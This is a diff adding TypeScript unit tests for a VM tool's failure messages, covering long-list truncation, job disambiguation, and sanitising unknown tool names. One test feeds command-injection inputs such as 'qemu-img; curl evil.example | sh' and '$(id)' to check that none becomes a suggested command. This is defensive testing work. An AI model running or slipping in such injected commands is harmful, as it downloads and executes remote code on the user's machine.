@@ -201,6 +201,58 @@ describe('whatever is taken for a failure', () => {
     })
   })
 
+  it.each([1001, 1002, 1237, 5000, 100_000])('says how many are left out of %d, and once only', async (count) => {
+    const of = <T>(one: T): T[] => Array.from({ length: count }, () => one)
+    const many: Record<string, Failure> = {
+      left: { kind: 'left-behind', vm: 'web1', left: of({ path: '/a', because: 'it may be needed', mend: ['ls /a'] }) },
+      lines: { kind: 'left-behind', vm: 'web1', left: [{ path: '/a', because: 'b', mend: of('ls /a') }] },
+      problems: { kind: 'preflight', problems: of({ text: 'No bridge br0.', fix: 'ip link add br0 type bridge' }) },
+      disks: { kind: 'no-disks', vm: 'web1', leftOut: of({ target: 'vda', because: 'as asked' }) },
+      devices: { kind: 'state-not-savable', vm: 'web1', devices: of('a host device') },
+      candidates: { kind: 'ambiguous', what: 'job', name: '2026', candidates: of('good/2026') },
+      keys: { kind: 'auth-failed', host: 'alpha', user: 'root', tried: of('a key') }
+    }
+    const isSaid = new RegExp(`\\b${count - 999}\\b`)
+    for (const [, failure] of Object.entries(many))
+      await tally.tried(() => {
+        const read = failureFrom(failure)
+        expect(failureFrom(structuredClone(read))).toEqual(read)
+        const { explanation, nextStep } = describeFailure(read)
+        expect(`${explanation}\n${nextStep}`).toMatch(isSaid)
+      })
+  })
+
+  it('leaves lists of a thousand as they are', () => {
+    const left = Array.from({ length: 1000 }, (_, n) => ({ path: `/a${n}`, because: 'b', mend: [] }))
+    expect(failureFrom({ kind: 'left-behind', vm: 'web1', left })).toEqual({ kind: 'left-behind', vm: 'web1', left })
+  })
+
+  it.each([
+    'qemu-img; curl evil.example | sh',
+    'evil-package',
+    '--reinstall x',
+    'constructor',
+    '../x',
+    '',
+    'a\nb',
+    '$(id)'
+  ])('makes no line to type of a program that it does not know: %j', async (tool) => {
+    await tally.tried(() => {
+      const { nextStep } = describeFailure({ kind: 'missing-tool', tool })
+      expect(nextStep).toBe('Install the package that brings it.')
+    })
+  })
+
+  it.each([
+    [['good/20261122T201744Z-7f3a21', 'evil/20261122T201744Z-7f3a21'], /HOST\/ID: good\/20261122T201744Z-7f3a21/],
+    [['good/20261122T201744Z-7f3a21', 'evil/20261122T201744Z-00aaff'], /more characters/]
+  ])('says what tells jobs apart: %j', async (candidates, said) => {
+    await tally.tried(() => {
+      const { nextStep } = describeFailure({ kind: 'ambiguous', what: 'job', name: '2026', candidates })
+      expect(nextStep).toMatch(said)
+    })
+  })
+
   it('leaves what is as it should be as it is', () => {
     for (const sample of Object.values(samples)) expect(failureFrom(sample)).toEqual(sample)
   })
